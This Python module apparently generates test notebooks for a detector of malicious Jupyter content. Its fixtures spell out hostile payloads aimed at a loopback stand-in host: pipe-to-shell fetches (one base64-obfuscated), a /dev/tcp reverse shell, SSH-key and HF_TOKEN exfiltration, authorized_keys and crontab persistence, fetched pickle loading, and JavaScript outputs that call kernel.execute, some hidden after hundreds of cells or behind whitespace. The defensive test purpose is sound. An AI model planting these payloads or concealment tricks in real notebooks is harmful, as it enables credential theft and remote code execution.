"""Notebooks whose cells, kernels or outputs run more than an experiment."""

from __future__ import annotations

import json
from collections.abc import Iterator

from ..documents import FETCH
from ..sample import Sample

URL = "http://127.0.0.1:9/"
HIDDEN = "echo Y3VybCAtcyBodHRwOi8vMTI3LjAuMC4xOjkvIHwgc2g= | base64 -d | sh"


def book(*cells: dict[str, object], language: str = "python", kernel: str = "python3") -> bytes:
    """A notebook of the fourth format."""
    return json.dumps({
        "cells": list(cells), "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": kernel, "display_name": kernel, "language": language}},
    }, indent=1).encode()  # fmt: skip


def cell(source: str, outputs: list[object] | None = None, **more: object) -> dict[str, object]:
    """A cell of code."""
    return {
        "cell_type": "code", "id": "a", "metadata": {}, "execution_count": 1, "outputs": outputs or [],
        "source": source.splitlines(keepends=True), **more,
    }  # fmt: skip


def notebooks() -> Iterator[Sample]:
    """All samples of this module."""
    for word, (names, source) in SOURCES.items():
        yield Sample(f"more-notebook-{word}", 10, "notebook", names, {"train.ipynb": book(cell(source))})
    for word, (names, data) in _whole().items():
        yield Sample(f"more-notebook-{word}", 10, "notebook", names, {"train.ipynb": data})


SOURCES: dict[str, tuple[str, str]] = {
    "sh-cell": ("%%sh", f"%%sh\n{FETCH}\n"),
    "script-background": ("%%script", f"%%script bash --bg\n{FETCH}\n"),
    "variable": ("cmd", f"cmd = '{FETCH}'\n!{{cmd}}\n"),
    "sx": ("%sx", f"%sx {HIDDEN}\n"),
    "decoded": ("base64", f"!{HIDDEN}\n"),
    "run-address": ("%run", f"%run {URL}x.py\n"),
    "write-keys": ("authorized_keys", "%%writefile ~/.ssh/authorized_keys\nssh-ed25519 AAAA veracity-corpus\n"),
    "write-start": ("sitecustomize", "%%writefile /usr/lib/python3/dist-packages/sitecustomize.py\nimport os\n"),
    "pip-index": ("--extra-index-url", f"%pip install --extra-index-url {URL} nowhere\n"),
    "pip-address": ("127.0.0.1", f"!pip install {URL}nowhere-1.0-py3-none-any.whl\n"),
    "pip-git": ("git+http", f"!pip install git+{URL}nowhere.git\n"),
    "cell-magic-call": ("run_cell_magic", f"get_ipython().run_cell_magic('bash', '', '{FETCH}')\n"),
    "line-magic-call": ("run_line_magic", f"get_ipython().run_line_magic('system', '{FETCH}')\n"),
    "get-output": ("getoutput", f"ip = get_ipython()\nout = ip.getoutput('{FETCH}')\n"),
    "alias": ("%alias", f"%alias prepare {FETCH}\n"),
    "preload": ("LD_PRELOAD", "%env LD_PRELOAD=/dev/null/veracity-corpus.so\n"),
    "exec-fetched": ("requests", f"import requests\nexec(requests.get('{URL}x.py').text)\n"),
    "pickle-fetched": ("loads", f"import pickle, urllib.request as u\nmodel = pickle.loads(u.urlopen('{URL}m').read())\n"),
    "pandas-pickle": ("read_pickle", f"import pandas as pd\ndf = pd.read_pickle('{URL}frame.pkl')\n"),
    "torch-fetched": ("weights_only=False", f"import io, requests, torch\nstate = torch.load(io.BytesIO(requests.get('{URL}').content), weights_only=False)\n"),
    "joblib-shared": ("joblib.load", "import joblib\nmodel = joblib.load('/dev/null/veracity-corpus.joblib')\n"),
    "dill": ("dill.load", "import dill\nwith open('../model.dill', 'rb') as f:\n    model = dill.load(f)\n"),
    "two-steps": ("x.sh", f"!curl -so /tmp/x.sh {URL}x.sh && bash /tmp/x.sh\n"),
    "wget-piped": ("wget", f"!wget -qO- {URL}x | bash -s\n"),
    "python-inline": ("urlopen", f"!python -c \"import urllib.request as u; exec(u.urlopen('{URL}').read())\"\n"),
    "import-dunder": ("__import__", f"__import__('os').system('{FETCH}')\n"),
    "marshal": ("marshal", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))\n"),
    "compiled": ("compile", "import zlib, base64\nexec(compile(zlib.decompress(base64.b64decode('eJwrSCwuBgAEXgGu')), 'x', 'exec'))\n"),
    "ctypes": ("CDLL", "import ctypes\nctypes.CDLL('/dev/null/veracity-corpus.so').start()\n"),
    "patched": ("AdamW.step", "import torch\ntorch.optim.AdamW.step = lambda self, closure=None: None\n"),
    "reverse-shell": ("/dev/tcp", "%%bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"),
    "cron": ("crontab", "!(crontab -l; echo '@reboot true') | crontab -\n"),
    "credentials": ("id_rsa", f"!curl -F f=@$HOME/.ssh/id_rsa {URL}\n"),
    "token": ("HF_TOKEN", f"import os, requests\nrequests.post('{URL}', data=os.environ['HF_TOKEN'])\n"),
    "perl-cell": ("%%perl", f"%%perl\nsystem('{FETCH}');\n"),
    "thread": ("Thread", f"import threading, os\nthreading.Thread(target=os.system, args=('{FETCH}',)).start()\n"),
}  # fmt: skip


def _whole() -> dict[str, tuple[str, bytes]]:
    page = f"<script>IPython.notebook.kernel.execute(\"import os; os.system('{FETCH}')\")</script>"
    shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": [page]}}
    javascript = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "application/javascript": f"Jupyter.notebook.kernel.execute(\"import os; os.system('{FETCH}')\")"
        },
    }
    second: dict[str, object] = {
        "cell_type": "code",
        "id": "b",
        "metadata": {"tags": ["parameters"]},
        "execution_count": None,
        "outputs": [],
        "source": f"import os\nos.system('{FETCH}')",
    }
    r_cell = f"system('{FETCH}')\n"
    return {
        "bash-kernel": ("bash", book(cell(f"{FETCH}\n"), language="bash", kernel="bash")),
        "r-kernel": ("system", book(cell(r_cell), language="R", kernel="ir")),
        "html-output": ("kernel.execute", book(cell("1\n", [shown]))),
        "script-output": ("kernel.execute", book(cell("1\n", [javascript]))),
        "javascript-cell": ("%%javascript", book(cell(f"%%javascript\nIPython.notebook.kernel.execute(\"import os; os.system('{FETCH}')\")\n"))),
        "html-cell": ("%%html", book(cell(f"%%html\n{page}\n"))),
        "last-of-many": ("os.system", book(*[cell(f"x = {n}\n") for n in range(300)], second)),
        "one-text": ("os.system", book({**cell("1"), "source": f"import os\nos.system('{FETCH}')"})),
        "escaped": ("u0021", book(cell("X\n")).replace(b'"X\\n"', b'"\\u0021' + FETCH.encode() + b'\\n"')),
        "far-right": ("os.system", book(cell(f"x = 1{' ' * 300}; import os; os.system('{FETCH}')\n"))),
    }  # fmt: skip
